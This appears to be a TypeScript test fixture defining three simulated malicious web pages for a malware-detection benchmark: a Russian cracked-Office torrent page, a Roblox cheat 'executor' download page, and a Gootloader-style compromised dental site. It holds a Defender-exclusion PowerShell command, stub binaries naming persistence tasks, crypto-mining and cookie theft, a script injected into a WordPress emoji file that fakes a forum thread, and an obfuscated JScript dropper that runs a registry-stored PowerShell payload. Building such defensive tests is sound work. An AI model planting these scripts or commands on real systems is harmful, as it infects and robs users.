import { redirectRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute, pe, rar5, zip } from '../parts/e-bin.js';

// ---------- Russian: Office + activator "torrent" page, password archive ----------
const ruHost = 'softportal-free.ru.com';
const ruPage = `<!DOCTYPE html>
<html lang="ru">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Microsoft Office 2024 Pro Plus скачать торрент бесплатно + активатор KMSAuto (RePack)</title>
<meta name="keywords" content="office 2024 скачать, активатор офис, kmsauto net, торрент, крякнутый">
<style>
body{margin:0;background:#e9edf1;font-family:Tahoma,Verdana,sans-serif;font-size:13px;color:#222}
.top{background:#2f4f6f;color:#fff;padding:10px 20px;font-size:20px;font-weight:bold}.top small{font-size:12px;font-weight:normal;opacity:.8;margin-left:10px}
.menu{background:#3c6385;padding:6px 20px}.menu a{color:#fff;margin-right:16px;text-decoration:none}
.w{max-width:1040px;margin:16px auto;display:flex;gap:16px}.main{flex:1;background:#fff;border:1px solid #cfd8e1;padding:16px 22px}.side{width:240px}
h1{font-size:19px;color:#2f4f6f}
.inf{display:grid;grid-template-columns:170px 1fr;gap:4px;background:#f6f8fa;border:1px solid #e0e6ec;padding:10px}
.spoiler{border:1px dashed #9ab;background:#fafcff;padding:8px;margin:10px 0}
.dl{display:flex;gap:10px;margin:18px 0}.dl a{flex:1;text-align:center;padding:12px;color:#fff;text-decoration:none;font-weight:bold;border-radius:3px}
.t{background:#4caf50}.d{background:#1976d2}
.pw{font-size:15px;background:#fff3cd;border:1px solid #ffc107;padding:8px;text-align:center}
.side .b{background:#fff;border:1px solid #cfd8e1;padding:10px;margin-bottom:12px}.side a{display:block;color:#2f4f6f;margin:3px 0}
.com{border-top:1px solid #eee;padding:8px 0}
</style>
</head>
<body>
<div class="top">SoftPortal Free<small>программы, игры, активаторы – бесплатно и без регистрации</small></div>
<div class="menu"><a href="#">Главная</a><a href="#">Офис</a><a href="#">Графика</a><a href="#">Система</a><a href="#">Активаторы</a><a href="#">Игры</a></div>
<div class="w">
<div class="main">
 <h1>Microsoft Office 2024 Pro Plus 16.0.17932 RePack by KpoJIuK + активатор</h1>
 <div class="inf"><span>Версия:</span><b>2024 (build 16.0.17932.20162)</b><span>Разработчик:</span><span>Microsoft</span><span>Язык интерфейса:</span><span>Русский, Английский, Украинский</span><span>Лечение:</span><span>в комплекте (KMSAuto Net 2025)</span><span>Размер:</span><span>4.2 ГБ</span></div>
 <p>Сборка включает Word, Excel, PowerPoint, Outlook, Access, Publisher. Активация происходит автоматически при установке. Не требует учётной записи Microsoft.</p>
 <div class="spoiler"><b>Порядок установки:</b><br>1. Отключите антивирус и Защитник Windows (активатор определяется как HackTool – это ложное срабатывание).<br>2. Распакуйте архив паролем (указан ниже).<br>3. Запустите <b>OInstall.exe</b> от имени администратора.<br>4. После установки Office будет активирован навсегда.</div>
 <div class="pw">Пароль на архив: <b>softportal2025</b></div>
 <div class="dl"><a class="t" href="/engine/download.php?id=44120&t=torrent">Скачать торрент</a><a class="d" href="/engine/download.php?id=44120&t=direct">Скачать напрямую (без торрента)</a></div>
 <div class="com"><b>Алексей</b>: Всё работает, спасибо! Активировалось сразу.</div>
 <div class="com"><b>Marina_77</b>: Защитник ругается, но после отключения всё ок.</div>
</div>
<div class="side"><div class="b"><b>Популярное</b><a href="#">Windows 11 24H2 активированная</a><a href="#">KMSAuto Net 2025 Portable</a><a href="#">Adobe Photoshop 2025 крякнутый</a><a href="#">WinRAR 7.01 ключ</a></div></div>
</div>
</body>
</html>`;
const ruExe = pe({ x64: true, size: 10240, strings: ['OInstall.exe', 'Office Installer', 'KMSAuto', 'schtasks /create /sc minute /mo 15 /tn "MicrosoftEdgeUpdateTaskCore" /tr "%APPDATA%\\Microsoft\\svc.exe"', 'xmrig', 'pool.supportxmr.com:443'] });

// ---------- Roblox executor / game cheat download ----------
const gcHost = 'solara-executor.net';
const gcPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Solara Executor – Free Roblox Script Executor (Keyless, Undetected) | Download 2025</title>
<meta name="description" content="Download Solara, the best free keyless Roblox executor. 100% UNC, undetected by Byfron/Hyperion. Works with Blox Fruits, Pet Simulator 99, Da Hood.">
<style>
body{margin:0;background:#09090b;color:#e4e4e7;font-family:Inter,system-ui,Arial,sans-serif}
nav{display:flex;justify-content:space-between;align-items:center;padding:18px 8vw}nav b{font-size:22px;background:linear-gradient(90deg,#a78bfa,#22d3ee);-webkit-background-clip:text;color:transparent}
nav a{color:#a1a1aa;margin-left:18px;text-decoration:none}
.hero{text-align:center;padding:70px 20px}.hero h1{font-size:52px;margin:0}.hero p{color:#a1a1aa;font-size:18px}
.dl{display:inline-block;margin-top:26px;background:linear-gradient(90deg,#7c3aed,#0891b2);color:#fff;padding:16px 38px;border-radius:10px;font-weight:700;font-size:18px;text-decoration:none}
.st{display:flex;justify-content:center;gap:40px;margin-top:30px;color:#a1a1aa}.st b{display:block;color:#fff;font-size:24px}
.box{max-width:760px;margin:30px auto;background:#18181b;border:1px solid #27272a;border-radius:12px;padding:22px;line-height:1.6}
code{background:#27272a;padding:2px 6px;border-radius:4px}
.warn{background:#422006;border:1px solid #a16207;color:#fde68a;border-radius:8px;padding:12px}
footer{text-align:center;color:#52525b;font-size:12px;padding:30px}
</style>
</head>
<body>
<nav><b>Solara</b><div><a href="#">Scripts</a><a href="#">Status</a><a href="https://discord.gg/solara-exec">Discord</a></div></nav>
<section class="hero">
 <h1>Solara Executor</h1>
 <p>Free &middot; Keyless &middot; 100% UNC &middot; Undetected</p>
 <a class="dl" id="dl" href="/download/latest">Download v3.2.1</a>
 <div class="st"><div><b id="dc">1,248,003</b>downloads</div><div><b>Online</b>status</div><div><b>Updated</b>today</div></div>
</section>
<div class="box">
 <h3>Installation</h3>
 <ol><li>Turn off <b>Windows Defender Real-time protection</b> and SmartScreen. Executors inject into Roblox, so every antivirus flags them – it is a false positive.</li><li>Download the ZIP and extract it with the password <code>solara</code>.</li><li>Run <code>Bootstrapper.exe</code> as administrator. It downloads the latest DLL automatically.</li><li>Open Roblox, press <b>Attach</b>, paste your script and press <b>Execute</b>.</li></ol>
 <div class="warn">&#9888; If the bootstrapper closes instantly, add the Solara folder to Defender exclusions: <code>Add-MpPreference -ExclusionPath "$env:LOCALAPPDATA\\Solara"</code></div>
</div>
<footer>Solara is not affiliated with Roblox Corporation. Use at your own risk.</footer>
<script src="/assets/counter.js"></script>
</body>
</html>`;
const gcExe = pe({ x64: true, size: 10240, strings: ['Bootstrapper.exe', 'Solara Bootstrapper', 'discord.com/api/webhooks/', 'Roblox\\LocalStorage', '.ROBLOSECURITY', 'Chrome\\User Data\\Default\\Network\\Cookies'] });

// ---------- Gootloader-style SEO-poisoned "forum thread" on a compromised site ----------
const gtHost = 'www.westbrookdentalgroup.ca';
const gtPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Is a verbal agreement legally binding in Ontario? Template download – Westbrook Dental Group</title>
<meta name="description" content="Ontario verbal agreement legally binding template download">
<link rel="stylesheet" href="/wp-content/themes/dentalcare/style.css?ver=2.3">
</head>
<body>
<header><div class="logo">Westbrook <span>Dental Group</span></div><nav><a href="/">Home</a><a href="/services/">Services</a><a href="/our-team/">Our Team</a><a href="/contact/">Book Appointment</a></nav></header>
<main id="content">
 <article>
  <h1>Is a verbal agreement legally binding in Ontario?</h1>
  <p class="lead">Professional dental care for the whole family in Westbrook since 1996. Emergency appointments available.</p>
 </article>
</main>
<footer>Westbrook Dental Group · 2210 Lakeshore Rd W, Oakville ON · (905) 555-0147</footer>
<script src="/wp-includes/js/wp-emoji-release.min.js?ver=6.2.2"></script>
</body>
</html>`;
const gtCss = `body{margin:0;font-family:Lato,Arial,sans-serif;color:#333}header{display:flex;justify-content:space-between;align-items:center;padding:16px 30px;background:#fff;border-bottom:3px solid #00a5b5}.logo{font-size:22px;font-weight:700}.logo span{color:#00a5b5}nav a{margin-left:18px;color:#333;text-decoration:none}main{max-width:900px;margin:24px auto;padding:0 16px}footer{background:#f3f6f7;padding:18px;text-align:center;font-size:13px;color:#666}
.forum{border:1px solid #d6dde0;border-radius:4px;margin-top:16px}.forum .th{background:#eef3f5;padding:10px 14px;font-weight:bold}.post{display:grid;grid-template-columns:140px 1fr;border-top:1px solid #e3e8ea}.post .u{background:#f8fafb;padding:12px;font-size:12px;color:#556}.post .u b{display:block;font-size:13px;color:#0b6b75}.post .m{padding:12px 14px;font-size:14px;line-height:1.55}.post .m a{color:#0b6b75;font-weight:bold}`;
// Injected into a legitimate-looking emoji script: rewrites the page into a fake forum thread.
const gtJs = `/*! This file is auto-generated */
window._wpemojiSettings={"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/14.0.0\\/72x72\\/","ext":".png"};
;(function(){var c=document.cookie;if(/wordpress_logged_in/.test(c))return;var q=document.title.split(' – ')[0];
function p(u,t,m){return '<div class="post"><div class="u"><b>'+u+'</b>'+t+'</div><div class="m">'+m+'</div></div>'}
var h='<div class="forum"><div class="th">Forum &rsaquo; Legal questions &rsaquo; '+q+'</div>'+
p('JasonMcK','Member<br>Posts: 3','Hi, I need a '+q.toLowerCase()+' template. Does anyone have a sample document I could use? Thanks in advance.')+
p('ErinD_legal','Member<br>Posts: 41','I have the same question, did you find anything?')+
p('admin','Administrator<br>Posts: 2,814','Hello. Here is a direct link to download the template agreement: <a href="/download.php?t=verbal-agreement-ontario">'+q+'</a>. Let me know if it helps.')+
p('JasonMcK','Member<br>Posts: 4','Thank you so much!')+'</div>';
document.addEventListener('DOMContentLoaded',function(){var m=document.querySelector('#content article');if(m)m.innerHTML='<h1>'+q+'</h1>'+h})})();`;
const gtZipJs = `/* Ontario verbal agreement template */
var Ea=WScript.CreateObject("WScript.Shell");var Ub="SOFTWARE\\\\Microsoft\\\\Phone\\\\"+Ea.ExpandEnvironmentStrings("%USERNAME%");
function Ko(s){var o="";for(var i=0;i<s.length;i+=2)o+=s.charAt(i);return o}
var cmd=Ko("pxopwjeergsshheglblq .-ewx ibsy pjaasdss -inwo pf -inwo qljuiam");
try{Ea.RegWrite("HKCU\\\\"+Ub+"\\\\0","jxorhw");}catch(e){}
Ea.Run(cmd+" -c \\"iex ((gp 'HKCU:\\\\"+Ub+"').'0')\\"",0,false);`;

export const entries: Entry[] = [
  {
    id: 'e-mal-crack-torrent-ru',
    label: 'malware',
    kind: 'cracked-software',
    url: `https://${ruHost}/office/44120-microsoft-office-2024-pro-plus-aktivator.html`,
    body: ruPage,
    routes: {
      [`${ruHost}/engine/download.php`]: fileRoute(
        zip([{ name: 'Office_2024_RePack/OInstall.exe', data: ruExe }, { name: 'Office_2024_RePack/Пароль.txt', data: 'softportal2025' }], { encrypted: true }),
        'application/zip',
        'Office_2024_RePack_softportal.zip',
      ),
    },
  },
  {
    id: 'e-mal-game-cheat-executor',
    label: 'malware',
    kind: 'game-cheat',
    url: `https://${gcHost}/`,
    body: gcPage,
    routes: {
      [`${gcHost}/assets/counter.js`]: jsRoute(`(function(){var n=1248003;setInterval(function(){n+=Math.floor(Math.random()*4);document.getElementById('dc').textContent=n.toLocaleString('en-US')},1500)})();`),
      [`${gcHost}/download/latest`]: redirectRoute(302, 'https://cdn.filebin-mirror.org/solara/Solara_v3.2.1.rar'),
      'cdn.filebin-mirror.org/solara/Solara_v3.2.1.rar': fileRoute(Buffer.concat([rar5('Bootstrapper.exe'), gcExe.subarray(0, 2048)]), 'application/vnd.rar', 'Solara_v3.2.1.rar'),
    },
  },
  {
    id: 'e-mal-seo-template-gootloader',
    label: 'malware',
    kind: 'seo-poisoning',
    url: `https://${gtHost}/is-a-verbal-agreement-legally-binding-in-ontario/`,
    body: gtPage,
    routes: {
      [`${gtHost}/wp-content/themes/dentalcare/style.css`]: { status: 200, headers: { 'content-type': 'text/css' }, body: gtCss },
      [`${gtHost}/wp-includes/js/wp-emoji-release.min.js`]: jsRoute(gtJs),
      [`${gtHost}/download.php`]: fileRoute(zip([{ name: 'Is_a_verbal_agreement_legally_binding_in_Ontario_template_47219.js', data: gtZipJs }]), 'application/zip', 'Is_a_verbal_agreement_legally_binding_in_Ontario_template.zip'),
    },
  },
];
